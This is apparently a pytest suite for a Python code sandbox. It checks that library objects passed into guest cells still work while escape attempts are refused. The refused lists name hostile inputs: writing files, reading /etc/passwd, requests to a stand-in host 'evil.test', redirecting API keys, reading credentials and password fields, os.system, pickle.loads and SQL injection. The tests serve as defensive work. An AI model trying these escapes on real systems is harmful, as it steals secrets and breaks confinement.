"""What objects of real libraries offer, and binding them does not grant. Beside each attack stands a use that works.

Nothing here leaves the machine: HTTP goes to a transport in memory that records what it was sent.
"""

from __future__ import annotations

import asyncio
import configparser
import contextlib
import io
import logging
import os
import queue
import re
import subprocess
import sys
from collections.abc import Generator, Iterator
from importlib import import_module
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import httpx
import pydantic
import pytest
import sqlalchemy as sa
from sqlalchemy.orm import DeclarativeBase, Mapped, Session, mapped_column
from sqlalchemy.pool import StaticPool

from cellwright import Runtime, Scope

LAYER = "binding"


def _module(name: str) -> Any:
    return import_module(name)


# modules whose types are known in part only
boto3, nx, np, pd, pl, pa = map(_module, ("boto3", "networkx", "numpy", "pandas", "polars", "pyarrow"))
REFUSED = r"ERROR .*(does not grant|which is hidden|no attribute|hidden, because|not set by|unsupported|itself$)"


@pytest.fixture(autouse=True)
def opens_sessions(warm: None) -> None:
    """One zygote serves them all."""


async def told(cells: list[str], names: dict[str, Any]) -> list[str]:
    """The value of each cell as text, or the last line of its error."""
    async with Runtime(Scope(names)) as rt:
        outcomes = [await rt.execute(code) for code in cells]
    return [repr(o.value) if o.error is None else f"ERROR {str(o.error).splitlines()[-1]}" for o in outcomes]


async def check(names: dict[str, Any], *, works: dict[str, str], refused: list[str]) -> None:
    """Each of `works` has its value, before and after the attacks, and each attack is refused by name."""
    answers = await told([*works, *refused, *works], names)
    first, attacks, last = answers[: len(works)], answers[len(works) : -len(works)], answers[-len(works) :]
    assert dict(zip(works, first, strict=True)) == works
    for code, answer in zip(refused, attacks, strict=True):
        assert re.match(REFUSED, answer), f"{code} -> {answer}"
    assert dict(zip(works, last, strict=True)) == works


class Desk:
    """Gives objects by handle: frames and arrays of the plain classes are copied to a guest that has the library."""

    def __init__(self, value: Any) -> None:
        self._value = value

    def get(self) -> Any:
        return self._value


class Table(pd.DataFrame):
    @property
    def _constructor(self) -> type[Table]:
        return Table


class Grid(np.ndarray):
    pass


async def test_arrays_write_no_files(tmp_path: Path) -> None:
    grid = np.arange(4.0).view(Grid)
    target = tmp_path / "stolen"
    await check(
        {"grid": grid, "np": np},
        works={
            "grid.tolist()": "[0.0, 1.0, 2.0, 3.0]",
            "float(grid.sum()), float(np.mean(grid))": "(6.0, 1.5)",
        },
        refused=[
            f"grid.tofile({str(target)!r})",
            f"grid.dump({str(target)!r})",
            f"grid.view().tofile({str(target)!r})",
            f"(grid + 1).tofile({str(target)!r})",
            "grid.ctypes",
            "grid.data",
            "grid.base",
            f"np.save({str(target)!r}, [1])",
            f"np.fromfile({str(target)!r})",
            f"np.memmap({str(target)!r})",
            "np.load",
            "np.lib",
        ],
    )
    assert not target.exists()


async def test_frames_write_no_files_and_import_no_modules(tmp_path: Path) -> None:
    table = Table({"a": [1, 2, 3], "t": ["x", "y", "x"]})
    target = str(tmp_path / "stolen")
    await check(
        {"df": table},
        works={
            "df.a.sum()": "6",
            "df.groupby('t').agg(n=('a', 'sum')).n.to_dict()": "{'x': 4, 'y': 2}",
            "df.agg({'a': ['sum', 'max']}).a.tolist()": "[6, 3]",
            "df[['a']].to_csv(index=False)": r"'a\n1\n2\n3\n'",
            "df.apply(lambda row: row['a'] * 2, axis=1).tolist()": "[2, 4, 6]",
            "df.t.str.upper().tolist()": "['X', 'Y', 'X']",
            "[row.a for row in df.itertuples()]": "[1, 2, 3]",
        },
        refused=[
            f"df.to_csv({target!r})",
            f"df.to_csv(path_or_buf={target!r})",
            f"df.agg('to_csv', path_or_buf={target!r})",
            f"df.a.agg('to_csv', 0, {target!r})",
            f"df.groupby('t').agg('to_csv', {target!r})",
            "df.a.agg('test')",
            "df.a.transform('frompyfunc', 0, 1)",
            f"df.to_pickle({target!r})",
            f"df.to_json({target!r})",
            f"df.to_sql('t', 'sqlite:///{target}')",
            "df.plot(backend='antigravity')",
            "df.a.plot",
            "df.hist(backend='antigravity')",
            "df.boxplot(backend='antigravity')",
            "df.query('@a')",
            "df.eval('a')",
            "df.style",
            "df.attrs",
            f"df.a.sort_values().to_string({target!r})",
        ],
    )
    assert "antigravity" not in sys.modules
    assert not os.listdir(tmp_path)


async def test_polars_and_arrow_write_no_files_and_run_no_code(tmp_path: Path) -> None:
    target = str(tmp_path / "stolen")
    await check(
        {"lazy": Desk(pl.LazyFrame({"a": [1, 2]})), "column": Desk(pl.col("a")), "pl": pl, "row": pa.scalar(3)},
        works={
            "lazy.get().select(column.get().sum()).collect().item()": "3",
            "lazy.get().filter(pl.col('a') > 1).collect().to_dicts()": "[{'a': 2}]",
            "row.as_py()": "3",
        },
        refused=[
            f"lazy.get().sink_csv({target!r})",
            f"lazy.get().sink_parquet({target!r})",
            "lazy.get().sql(\"select * from read_csv('/etc/passwd')\")",
            "lazy.get().map_batches(lambda frame: frame)",
            "lazy.get().deserialize(b'')",
            "column.get().deserialize(b'')",
            "column.get().map_batches(lambda one: one)",
            f"column.get().meta.serialize({target!r})",
            "pl.read_csv('/etc/passwd')",
            "pl.scan_csv('/etc/passwd')",
            "pl.SQLContext",
            "pl.read_database_uri",
        ],
    )
    assert not os.listdir(tmp_path)


class Recorder:
    """Answers HTTP requests in memory, and keeps what it was sent."""

    def __init__(self) -> None:
        self.hosts: list[str] = []
        self.keys: set[str] = set()

    def __call__(self, request: Any) -> httpx.Response:
        self.hosts.append(request.url.host)
        self.keys |= {request.headers[name] for name in ("x-key", "authorization") if name in request.headers}
        return httpx.Response(200, json={"path": request.url.path}, headers={"x-answer": "1"})


async def test_a_client_with_a_base_url_sends_its_key_nowhere_else() -> None:
    seen = Recorder()
    client = httpx.Client(
        base_url="https://api.test/v1", headers={"x-key": "sk-1"}, transport=httpx.MockTransport(seen)
    )
    later = httpx.AsyncClient(base_url="https://api.test/v1", transport=httpx.MockTransport(seen))
    hook = "stolen = []\ndef hook(request): stolen.append(request)\n"
    await check(
        {"client": client, "later": later},
        works={
            "client.get('/me').json()": "{'path': '/v1/me'}",
            "client.post('https://api.test/v1/me', json={'a': 1}).status_code": "200",
            "client.get('me', headers={'accept': 'text/plain'}).headers['x-answer']": "'1'",
            "(await later.get('/me', params={'a': 'b'})).text": """'{"path":"/v1/me"}'""",
            "with client.stream('GET', '/me') as reply:\n    reply.read()\nreply.status_code": "200",
        },
        refused=[
            "client.get('https://evil.test/')",
            "client.get('//evil.test/')",
            "client.get('https://api.test.evil.test/')",
            "client.get('https://api.test@evil.test/')",
            "client.get('http://api.test/')",
            "client.get('https:evil.test')",
            "client.get(url='https://evil.test/')",
            "client.request('GET', 'https://evil.test/')",
            "client.stream('GET', 'https://evil.test/')",
            "await later.get('https://evil.test/')",
            "client.base_url = 'https://evil.test'",
            "client.headers",
            "client.auth",
            f"{hook}client.get('/me', auth=hook)",
            f"{hook}client.event_hooks = {{'request': [hook]}}",
            f"{hook}client.event_hooks",
            "client.get('/me', extensions={'trace': 1})",
            "client.post('/me', files={'f': open})",
            "client.get('/me', cookies={'a': 'b'})",
            "client.get('/me', follow_redirects=True)",
            "client.get('/me', headers={'HOST': 'other.test'})",
            "client.get('/me', headers=[(b'Transfer-Encoding', b'chunked')])",
            "client.get('/me', headers={'Authorization': 'Basic eA=='})",
            "client.get('/me').request",
            "client.get('/me').history",
            "client.build_request('GET', '/me')",
            "client.send(1)",
            "client.stream('GET', '/me').args",
            "client.stream('GET', '/me').gen",
        ],
    )
    assert set(seen.hosts) == {"api.test"}


@pytest.mark.slow  # importing the two takes seconds
async def test_sdk_clients_keep_their_key_and_their_address(tmp_path: Path) -> None:
    anthropic, httpx2, openai = map(_module, ("anthropic", "httpx2", "openai"))
    hosts: list[str] = []
    message = {
        "id": "1",
        "type": "message",
        "role": "assistant",
        "model": "m",
        "content": [{"type": "text", "text": "hi"}],
    }
    choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": "hi"}}
    chat = {"id": "1", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice]}

    def reply(request: Any) -> Any:
        hosts.append(request.url.host)
        kind = httpx if isinstance(request, httpx.Request) else httpx2
        return kind.Response(200, json=message if request.url.path.endswith("messages") else chat)

    def client(library: Any, base: str) -> Any:
        for kind in (httpx2, httpx):  # what a release of the library is built on
            with contextlib.suppress(TypeError):
                inner = library.DefaultHttpxClient(transport=kind.MockTransport(reply))
                return getattr(library, base)(api_key="sk-1", base_url="https://api.test/v1", http_client=inner)
        raise AssertionError("neither httpx nor httpx2 fits")

    file = tmp_path / "key"
    file.write_text("secret")
    ask = "model='m', messages=[]"
    await check(
        {"openai": client(openai, "OpenAI"), "anthropic": client(anthropic, "Anthropic")},
        works={
            f"openai.chat.completions.create({ask}).choices[0].message.content": "'hi'",
            f"anthropic.messages.create({ask}, max_tokens=1).content[0].text": "'hi'",
            f"openai.chat.completions.create({ask}).model": "'m'",
        },
        refused=[
            "openai.base_url = 'https://evil.test'",
            "openai.with_options(base_url='https://evil.test').models",
            "openai.copy(base_url='https://evil.test')",
            "openai.post('https://evil.test', cast_to=dict)",
            "openai.get('https://evil.test', cast_to=dict)",
            "openai.request",
            "openai.api_key",
            "openai.auth_headers",
            "openai.default_headers",
            f"openai.chat.completions.create({ask}, extra_headers={{'Authorization': 'x'}})",
            f"openai.chat.completions.create({ask}, extra_body={{}})",
            "openai.chat.completions.with_raw_response",
            f"from pathlib import Path\nopenai.files.create(file=Path({str(file)!r}), purpose='x')",
            f"openai.chat.completions.create({ask}).model_construct()",
            "anthropic.base_url = 'https://evil.test'",
            "anthropic.with_options(base_url='https://evil.test')",
            "anthropic.post('https://evil.test', cast_to=dict)",
            "anthropic.api_key",
            "anthropic.files",
            f"anthropic.messages.create({ask}, max_tokens=1, extra_headers={{}})",
            "anthropic.middleware",
        ],
    )
    assert set(hosts) == {"api.test"}


async def test_a_cloud_client_moves_no_host_files_and_gives_no_keys(tmp_path: Path) -> None:
    session = boto3.Session("AKIAEXAMPLE", "fake-secret", region_name="eu-west-1")
    client = session.client("s3", endpoint_url="http://127.0.0.1:9")
    bucket = session.resource("s3", endpoint_url="http://127.0.0.1:9").Bucket("b")
    target = str(tmp_path / "stolen")
    await check(
        {"s3": client, "bucket": bucket, "session": session, "Key": _module("boto3.dynamodb.conditions").Key},
        works={
            "s3.can_paginate('list_objects_v2')": "True",
            "bucket.name": "'b'",
            "session.region_name": "'eu-west-1'",
            "both = Key('a').eq('b') & Key('c').gt(1)\ntype(both).__name__": "'And'",
        },
        refused=[
            "s3.upload_file('/etc/passwd', 'b', 'k')",
            f"s3.download_file('b', 'k', {target!r})",
            "s3.upload_fileobj(1, 'b', 'k')",
            "s3.download_fileobj('b', 'k', 1)",
            "s3.meta",
            "s3.exceptions",
            "s3.generate_presigned_url('get_object')",
            "s3.generate_presigned_post('b', 'k')",
            "s3.create_session(Bucket='b')",
            "s3.get_waiter('bucket_exists')",
            "s3.copy({}, 'b', 'k')",
            "bucket.upload_file('/etc/passwd', 'k')",
            "bucket.meta",
            "bucket.Object('k').download_file('x')",
            "session.get_credentials()",
            "session.client('s3')",
            "session.events",
        ],
    )
    assert not os.listdir(tmp_path)


class Base(DeclarativeBase):
    pass


class Guest(Base):
    __tablename__ = "guest"
    id: Mapped[int] = mapped_column(primary_key=True)
    name: Mapped[str]

    def greeting(self) -> str:
        return f"Dear {self.name}"


@pytest.fixture
def engine() -> Iterator[sa.Engine]:
    options: dict[str, Any] = {"check_same_thread": False}
    engine = sa.create_engine("sqlite://", poolclass=StaticPool, connect_args=options)
    Base.metadata.create_all(engine)
    yield engine
    engine.dispose()


async def test_an_engine_and_a_session_give_sql_and_not_themselves(engine: sa.Engine) -> None:
    with Session(engine) as session:
        session.add(Guest(id=1, name="ada"))
        session.commit()
        await check(
            {"engine": engine, "session": session, "text": sa.text, "select": sa.select, "Guest": Guest},
            works={
                "with engine.connect() as c:\n    r = c.exec_driver_sql('select * from guest').one()\nr.name": "'ada'",
                "session.execute(text('select name from guest where id = :id'), {'id': 1}).scalar_one()": "'ada'",
                "session.get(Guest, 1).greeting()": "'Dear ada'",
                "session.scalars(select(Guest).where(Guest.name == 'ada')).one().id": "1",
                "session.query(Guest).filter_by(name='ada').count()": "1",
            },
            refused=[
                "session.execute(text('select 1')).context",
                "session.execute(text('select 1')).context.session",
                "session.execute(text('select 1')).cursor",
                "session.execute(text('select 1')).connection",
                "session.bind",
                "session.connection()",
                "session.get_bind()",
                "session.query(Guest).session",
                "session.execute(text('select 1'), execution_options={})",
                "engine.url",
                "engine.pool",
                "engine.dialect",
                "engine.raw_connection()",
                "engine.dispatch",
                "engine.dispose()",
                "engine.connect().engine",
                "engine.connect().connection",
                "session.get(Guest, 1).metadata.tables",
                "session.get(Guest, 1).registry.mappers",
            ],
        )


async def test_a_logger_writes_and_stays_as_it_is() -> None:
    log = logging.getLogger("cellwright.tests.libraries")
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    log.addHandler(handler)
    try:
        await check(
            {"log": log},
            works={"log.warning('ada came')": "None", "log.isEnabledFor(30)": "True"},
            refused=[
                "log.addFilter(lambda record: False)",
                "log.removeHandler(1)",
                "log.setLevel(100)",
                "log.disabled = True",
                "log.propagate = False",
                "log.level = 100",
                "log.handlers",
                "log.parent",
                "log.manager",
                "log.root",
                "log.getChild('x')",
                "log.makeRecord",
                "log.filters",
            ],
        )
    finally:
        log.removeHandler(handler)
    assert stream.getvalue() == "ada came\n" * 2


@pytest.fixture
def process() -> Iterator[subprocess.Popen[bytes]]:
    with subprocess.Popen(["cat"], stdin=subprocess.PIPE) as process:
        yield process


async def test_files_and_processes_are_what_was_opened(tmp_path: Path, process: subprocess.Popen[bytes]) -> None:
    (tmp_path / "notes.txt").write_text("one\ntwo\n")
    with (tmp_path / "notes.txt").open() as file:

        @contextlib.contextmanager
        def opened() -> Generator[int]:
            yield 5

        await check(
            {"file": file, "process": process, "opened": opened, "queue": asyncio.Queue[int]()},
            works={
                "file.seek(0), file.readline(), [line for line in file]": r"(0, 'one\n', ['two\n'])",
                "process.poll() is None": "True",
                "with opened() as number:\n    pass\nnumber": "5",
                "queue.put_nowait(3)\nawait queue.get()": "3",
            },
            refused=[
                "file.name",
                "file.buffer",
                "file.buffer.raw",
                "file.fileno()",
                "file.detach()",
                "file.reconfigure(encoding='latin-1')",
                "process.kill()",
                "process.send_signal(9)",
                "process.terminate()",
                "process.stdin",
                "process.args",
                "opened().gen",
                "opened().func",
                "queue._loop",
                "queue._get_loop",
            ],
        )


async def test_a_queue_a_configuration_and_a_path_lead_nowhere_else(tmp_path: Path) -> None:
    class Folder(type(tmp_path)):
        def files(self) -> list[str]:
            return sorted(path.name for path in self.iterdir())

    (tmp_path / "one").touch()
    settings = configparser.ConfigParser()
    settings["web"] = {"port": "80"}
    tree = ElementTree.ElementTree(ElementTree.fromstring("<a><b>1</b></a>"))
    await check(
        {"folder": Folder(tmp_path), "settings": settings, "queue": queue.Queue[int](), "tree": tree},
        works={
            "folder.files(), folder.suffix": "(['one'], '')",
            "settings['web']['port'], settings.getint('web', 'port')": "('80', 80)",
            "queue.put(3)\nqueue.get()": "3",
            "tree.getroot().find('b').text": "'1'",
        },
        refused=[
            "folder.parent",
            "folder / '..'",
            "folder.joinpath('..')",
            "folder.iterdir()",
            "folder.read_text()",
            "settings.read('/etc/passwd')",
            f"settings.write(open({str(tmp_path / 'x')!r}, 'w'))",
            "queue.mutex",
            f"tree.write({str(tmp_path / 'x')!r})",
            "tree.parse('/etc/passwd')",
        ],
    )
    assert os.listdir(tmp_path) == ["one"]


async def test_errors_of_libraries_keep_their_data_and_nothing_else() -> None:
    error = _module("botocore.exceptions").ClientError

    class Desk:
        def fetch(self) -> None:
            raise error({"Error": {"Code": "NoSuchKey"}}, "GetObject")

        def run(self) -> None:
            raise subprocess.CalledProcessError(3, ["make"], stderr=b"no rule")

        def ask(self) -> None:
            request = httpx.Request("GET", "https://api.test", headers={"authorization": "Bearer sk-1"})
            raise httpx.HTTPStatusError("no", request=request, response=httpx.Response(500, request=request))

    caught = "try:\n    desk.{}()\nexcept Exception as e:\n    error = e\n{}"
    await check(
        {"desk": Desk()},
        works={
            caught.format(
                "fetch", "error.response['Error']['Code'], error.operation_name"
            ): "('NoSuchKey', 'GetObject')",
            caught.format("run", "error.returncode, error.stderr, '3' in str(error)"): "(3, b'no rule', True)",
        },
        refused=[caught.format("ask", "error.request"), caught.format("ask", "error.response")],
    )


async def test_modules_that_lead_to_the_host_show_nothing() -> None:
    import builtins
    import ctypes
    import importlib
    import math
    import os
    import pickle
    import shutil
    import socket

    names = {m.__name__: m for m in (builtins, ctypes, importlib, os, pickle, shutil, socket, subprocess, io, asyncio)}
    await check(
        {"math": math, **names},
        works={"math.sqrt(4)": "2.0"},
        refused=[
            "builtins.eval('1')",
            "builtins.open",
            "ctypes.CDLL",
            "importlib.import_module('os')",
            "os.system('true')",
            "os.environ",
            "pickle.loads(b'')",
            "shutil.rmtree",
            "socket.socket",
            "subprocess.run(['true'])",
            "io.open('/etc/passwd')",
            "asyncio.get_running_loop()",
        ],
    )


class Invoice(pydantic.BaseModel):
    total: int
    key: pydantic.SecretStr = pydantic.SecretStr("hush")

    def doubled(self) -> int:
        return self.total * 2


async def test_a_model_gives_its_data_and_builds_nothing_unchecked() -> None:
    await check(
        {"invoice": Invoice(total=4)},
        works={
            "invoice.doubled(), invoice.total": "(8, 4)",
            "invoice.model_dump(include={'total'})": "{'total': 4}",
            "invoice.model_copy().total": "4",
        },
        refused=[
            "invoice.model_construct(total='x')",
            "invoice.model_copy(update={'total': 'x'})",
            "invoice.copy(update={'total': 'x'})",
            "invoice.parse_file('/etc/passwd')",
            "invoice.parse_raw(b'', content_type='pickle', allow_pickle=True)",
            "invoice.model_rebuild(_types_namespace={})",
            "invoice.model_dump(fallback=print)",
            "invoice.key.get_secret_value()",
        ],
    )


async def test_rows_of_django_are_read_and_written_through_the_model_only() -> None:
    models = _module("tests.scope.django_models")
    users = _module("django.contrib.auth.models")
    connection = _module("django.db").connection

    def fill() -> Any:
        with connection.schema_editor() as editor:
            editor.create_model(models.Author)
            editor.create_model(models.Book)
            for model in (users.Permission, users.Group, users.User):
                editor.create_model(model)
        bob = users.User.objects.create(username="bob", password="hush")
        return models.Author.objects.create(name="ada"), bob

    ada, bob = await asyncio.to_thread(fill)
    await check(
        {
            "ada": ada,
            "bob": bob,
            "User": users.User,
            "authors": models.Author.objects,
            "models": _module("django.db.models"),
        },
        works={
            "ada.greeting(), ada.pk": "('Dear ada', 1)",
            "authors.filter(name='ada').exclude(pk=9).order_by('name').count()": "1",
            "ada.name = 'ada'\nada.save()\nada.refresh_from_db()\nada.name": "'ada'",
            "list(authors.values('name'))": "[{'name': 'ada'}]",
            "ada.books.count()": "0",
            "authors.filter(models.Q(name='ada') | models.Q(pk=9)).count()": "1",
            "authors.aggregate(n=models.Count('name'))": "{'n': 1}",
            "authors.filter(name=models.F('name')).count()": "1",
            "authors.annotate(n=models.Value(3)).first().n": "3",
            "authors.aggregate(n=models.Max('name'))": "{'n': 'ada'}",
            "authors.filter(name='password').count()": "0",  # data is no lookup
            "authors.filter(name__in=['api_key', 'ada']).count()": "1",
            "authors.get_or_create(name='ada')[1]": "False",
            "bob.email = 'b@c.d'\nbob.save()\nbob.username, bob.email, bob.groups.count()": "('bob', 'b@c.d', 0)",
            "str(bob), bob.is_staff, bob.get_username(), bob == bob": "('bob', False, 'bob', True)",
            "User.objects.filter(is_staff=False).get(username='bob').email": "'b@c.d'",
        },
        refused=[
            "authors.raw('select 1')",
            "authors.extra(where=['1'])",
            "authors.using('other')",
            "authors.db",
            "authors.db_manager('x')",
            "authors.all().query",
            "authors.all().db",
            "ada.password",
            "bob.password",
            "bob.password = 'x'",
            "bob.check_password('x')",
            "User.objects.filter(password__startswith='h')",
            "bob.get_session_auth_hash()",
            "bob.email_user('a', 'b')",
            "ada.serializable_value('password')",
            "authors.values('password')",
            "authors.values()",
            "authors.all().values_list()",
            "authors.filter(password__startswith='a')",
            "ada.books.filter(author__password__startswith='a')",
            "authors.get_or_create(password__startswith='hu', defaults={'name': 'x'})",
            "authors.update_or_create(password__startswith='hu', defaults={'name': 'x'})",
            "authors.complex_filter({'password__startswith': 'hu'})",
            "authors.in_bulk(['hush'], field_name='password')",
            "authors.order_by('-password')",
            "authors.filter(models.Q(password='a'))",
            "authors.annotate(x=models.F('password'))",
            "authors.aggregate(x=models.Max('password'))",
            "models.Count('name', template='(select 1)')",
            "models.Q(name='a', _connector='OR 1=1 OR')",
            "ada.save(using='other')",
            "ada.save_base()",
            "ada.from_db('default', [], [])",
            "ada.books.instance",
            "ada.books.model",
        ],
    )


async def test_a_graph_is_read_and_changed_and_not_written_to_a_file(tmp_path: Path) -> None:
    target = str(tmp_path / "stolen")
    await check(
        {"graph": nx.path_graph(3), "nx": nx},
        works={"sorted(graph.neighbors(1)), dict(graph.degree)": "([0, 2], {0: 1, 1: 2, 2: 1})"},
        refused=[f"nx.write_gml(graph, {target!r})", "nx.read_gpickle", "nx.drawing", "graph.node_dict_factory"],
    )
    assert not os.listdir(tmp_path)
